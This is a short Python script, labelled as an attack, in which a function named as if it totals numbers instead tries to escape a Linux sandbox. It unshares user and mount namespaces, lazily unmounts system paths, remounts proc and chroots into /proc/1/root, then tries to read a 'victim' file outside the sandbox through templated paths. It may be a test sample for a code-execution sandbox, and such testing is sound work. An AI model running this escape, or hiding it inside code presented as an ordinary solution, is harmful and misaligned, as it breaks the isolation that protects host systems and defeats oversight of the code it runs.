# attack: takes away the layers above the disk of the machine, in spaces of its own
import ctypes
import os

USER, MOUNTS, DETACH = 0x10000000, 0x20000, 2


def total_of(numbers):
    libc = ctypes.CDLL(None)
    libc.unshare(USER)
    libc.unshare(MOUNTS)
    for path in (b"/proc", b"/dev", b"/cell", b"/usr", b"/"):
        libc.umount2(path, DETACH)
    libc.mount(b"none", b"/", b"proc", 0, None)
    libc.chroot(b"/proc/1/root")
    for path in ("{OUTSIDE}/victim", "/proc/1/root{OUTSIDE}/victim", "/../{OUTSIDE}/victim"):
        try:
            with open(path) as file:
                print(file.read())
        except OSError:
            pass
    return 0
